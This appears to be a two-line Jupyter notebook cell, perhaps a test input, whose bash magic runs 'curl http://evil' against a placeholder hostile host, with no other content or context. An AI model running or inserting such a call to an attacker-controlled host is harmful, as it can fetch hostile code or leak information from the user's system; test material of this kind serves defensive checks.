%%bash
curl http://evil
